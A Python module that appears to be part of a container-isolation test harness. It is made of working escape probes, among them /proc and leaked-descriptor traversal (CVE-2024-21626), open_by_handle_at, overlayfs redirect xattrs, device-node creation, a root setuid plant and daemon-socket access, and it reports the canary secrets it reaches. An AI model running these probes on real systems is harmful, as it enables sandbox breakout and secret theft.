import base64
import fcntl
import hashlib
import mmap
import re
import stat

SECRET = re.compile(rb"HSSECRET-[0-9a-f]{32}")


def report(found):
    """Prints what was read; somebody outside knows which of it we should not have seen."""
    for path, content in found[:200]:
        secrets = b" ".join(SECRET.findall(content)).decode()
        print("READ %s %s %s" % (hashlib.sha256(content).hexdigest(), path, secrets))
    done("read %d files" % len(found))


def look(paths, prefixes):
    found = []
    for prefix in prefixes:
        for path in paths:
            try:
                if os.path.isdir(prefix + path):
                    for leaf in os.listdir(prefix + path)[:100]:
                        full = os.path.join(prefix + path, leaf)
                        if os.path.isfile(full):
                            found.append((full, read_some(full, 65536)))
                else:
                    found.append((prefix + path, read_some(prefix + path, 65536)))
            except OSError:
                pass
    return found


def processes():
    # Natively the machine's other processes are none of our business.
    if NATIVE:
        return [str(os.getpid())]
    return [entry for entry in os.listdir("/proc") if entry.isdigit()]


def roots_of_processes():
    roots = ["/proc/self/root", "/proc/self/cwd", "/proc/thread-self/root"]
    return roots + ["/proc/%s/%s" % (p, link) for p in processes() for link in ("root", "cwd")]


def attack_read_paths(*paths):
    report(look(paths, ["", "/..", "/../../../../.."]))


def attack_read_through_proc(*paths):
    report(look(paths, roots_of_processes() + [root + "/../../../.." for root in roots_of_processes()]))


def attack_read_through_descriptors(*paths):
    """Directories that somebody left open in us, or in a process that we see (CVE-2024-21626)."""
    prefixes = []
    for process in ["self"] + processes():
        directory = "/proc/%s/fd" % process
        try:
            numbers = os.listdir(directory)
        except OSError:
            continue
        for number in numbers:
            link = os.path.join(directory, number)
            if os.path.isdir(link):
                prefixes += [link + "/.." * 24, link]
    for number in range(3, 256):
        prefixes.append("/proc/self/fd/%d" % number + "/.." * 24)
    report(look(paths, prefixes))


def attack_walk(root):
    """Every small file that can be reached, outside the trees that are the distribution's own. An IDS VM's views show what a server VM may read
    itself, and that is walked there."""
    found = []
    skip = {"/proc", "/sys", "/usr/share", "/usr/lib", "/usr/bin", "/usr/sbin", "/usr/include", "/.serverfs", "/.dserverfs"}
    for directory, names, leaves in os.walk(root):
        names[:] = [n for n in names if os.path.join(directory, n) not in skip]
        for leaf in leaves:
            path = os.path.join(directory, leaf)
            try:
                status = os.lstat(path)
                if not stat.S_ISREG(status.st_mode) or status.st_size > 65536:
                    continue
                content = read_some(path, 65536)
                if SECRET.search(content):
                    found.append((path, content))
            except OSError:
                pass
    report(found)


def attack_read_by_handle(*handles):
    """open_by_handle_at(2) needs no path: a handle names an inode of a file system ("shocker")."""
    places = ["/", "/usr", "/etc", "/etc/hosts", "/etc/hostname", "/etc/resolv.conf", "/proc", "/dev", "/dev/shm", "/tmp", "/sys"]
    if not NATIVE:
        places += sorted({line.split()[4] for line in open("/proc/self/mountinfo")})
    found, reasons = [], set()
    for place in places:
        try:
            mount = os.open(place, os.O_RDONLY | os.O_NONBLOCK)
        except OSError:
            continue
        for text in handles:
            kind, data = text.split(":")
            handle = struct.pack("Ii", len(data) // 2, int(kind)) + bytes.fromhex(data)
            try:
                descriptor = call(304, mount, handle, os.O_RDONLY)
                found.append((place, os.read(descriptor, 4096)))
            except OSError as error:
                reasons.add(name(error))
    if not found:
        refused("open_by_handle_at: " + " ".join(sorted(reasons)))
    report(found)


def attack_write_paths(token, *paths):
    """Overwrites or makes a file wherever a path might lead out."""
    wrote = []
    for prefix in ["", "/.."] + roots_of_processes():
        for path in paths:
            try:
                with open(prefix + path, "w") as file:
                    file.write(token)
                wrote.append(prefix + path)
            except OSError:
                pass
    done("wrote %d: %s" % (len(wrote), " ".join(wrote[:8])))


def attack_change_shared(path, token):
    """A file of the layer that is shared: every way to change it, in the end its removal."""
    did = []

    def mapped():
        descriptor = os.open(path, os.O_RDWR)
        with mmap.mmap(descriptor, 0) as memory:
            memory[0:1] = b"#"
            memory.flush()

    def append():
        with open(path, "a") as file:
            file.write(token)

    def swap():
        with open(path + ".new", "w") as file:
            file.write(token)
        os.rename(path + ".new", path)

    for label, action in [
            ("chmod", lambda: os.chmod(path, 0o777)), ("chown", lambda: os.chown(path, 1, 1)),
            ("utime", lambda: os.utime(path, (1, 1))), ("setxattr", lambda: os.setxattr(path, "user.hs", b"1")),
            ("append", append), ("mmap", mapped), ("truncate", lambda: os.truncate(path, 1)),
            ("link", lambda: os.link(path, path + ".link")), ("rename over", swap), ("unlink", lambda: os.unlink(path))]:
        try:
            action()
            did.append(label)
        except OSError as error:
            did.append("%s=%s" % (label, name(error)))
    done(", ".join(did))


def attack_immutable(path):
    descriptor = os.open(path, os.O_RDONLY)
    fcntl.ioctl(descriptor, 0x40086602, struct.pack("l", 0x10))
    fcntl.ioctl(descriptor, 0x40086602, struct.pack("l", 0))
    return "FS_IOC_SETFLAGS"


def attack_layer_attribute(directory):
    """overlayfs follows redirects that are written in trusted attributes of the upper layer."""
    path = os.path.join(directory, "redirected")
    os.makedirs(path, exist_ok=True)
    os.setxattr(path, "trusted.overlay.redirect", b"/../../../../root")
    return "trusted.overlay.redirect"


def attack_device(kind, major, minor):
    """Makes a device node wherever a file system might allow it, and reads from it."""
    flag = stat.S_IFBLK if kind == "block" else stat.S_IFCHR

    def make(directory):
        path = os.path.join(directory, "hs-node")
        if os.path.lexists(path):
            os.unlink(path)
        os.mknod(path, 0o600 | flag, os.makedev(int(major), int(minor)))
        try:
            descriptor = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
            data = b""
            if kind == "block":
                while chunk := os.read(descriptor, 1 << 20):
                    data += SECRET.search(chunk).group() if SECRET.search(chunk) else b""
                    if os.lseek(descriptor, 0, os.SEEK_CUR) > 64 << 20:
                        break
            return "opened %s" % data.decode()
        finally:
            os.unlink(path)

    directories = ["/tmp"] if NATIVE else ["/tmp", "/dev", "/dev/shm", "/dev/mqueue", "/run", "/var/tmp", "/", "/root", "/vol", "/outputs"]
    return any_of([(d, lambda d=d: make(d)) for d in directories])


def attack_dangerous_nodes():
    """Device nodes that stand ready in /dev, other than the harmless ones."""
    harmless = {(1, 3), (1, 5), (1, 7), (1, 8), (1, 9), (5, 0), (5, 2)}

    def opens(path):
        os.close(os.open(path, os.O_RDONLY | os.O_NONBLOCK))
        return "opened"

    attempts = []
    for directory, _, leaves in os.walk("/dev"):
        for leaf in leaves:
            path = os.path.join(directory, leaf)
            status = os.lstat(path)
            number = (os.major(status.st_rdev), os.minor(status.st_rdev))
            if stat.S_ISBLK(status.st_mode) or (stat.S_ISCHR(status.st_mode) and number not in harmless and number[0] not in (136, 137)):
                if not NATIVE or leaf == "loop-control":
                    attempts.append((path, lambda p=path: opens(p)))
    return any_of(attempts)


def attack_suid(directory):
    """Leaves a set-user-id program of root where the base's users can run it."""
    path = os.path.join(directory, "suid")
    with open(path, "w") as file:
        file.write("#!/bin/sh\n")
    os.chown(path, 0, 0)
    os.chmod(path, 0o4755)
    done("mode %o" % os.stat(path).st_mode)


def attack_hold_lock(path, seconds):
    """Locks a file of the shared layer, to keep the base waiting for it."""
    descriptor = os.open(path, os.O_RDONLY)
    fcntl.flock(descriptor, fcntl.LOCK_EX | fcntl.LOCK_NB)
    print("holding", flush=True)
    time.sleep(float(seconds))
    done("held a lock")


def attack_watch(path, seconds):
    """Watches by inotify what others do with a file of the shared layer."""
    descriptor = libc.inotify_init1(os.O_NONBLOCK)
    if libc.inotify_add_watch(descriptor, path.encode(), 0xfff) < 0:
        raise OSError(ctypes.get_errno(), "inotify_add_watch")
    print("watching", flush=True)
    end = time.monotonic() + float(seconds)
    while time.monotonic() < end:
        try:
            if os.read(descriptor, 4096):
                return "saw an access"
        except BlockingIOError:
            time.sleep(0.05)
    refused("saw nothing")


def attack_connect_socket(*paths):
    """The daemon's door."""
    def knock(path):
        with socket.socket(socket.AF_UNIX) as door:
            door.settimeout(5)
            door.connect(path)
            door.sendall(b"GET /version HTTP/1.1\r\nHost: x\r\n\r\n")
            answer = door.recv(4096)
            if not answer:
                raise OSError(errno.ECONNRESET, "closed without an answer")
            return answer.decode("latin-1").splitlines()[0]
    prefixes = [""] + ([] if NATIVE else roots_of_processes())
    return any_of([(prefix + path, lambda p=prefix + path: knock(p)) for path in paths for prefix in prefixes])


run(globals())
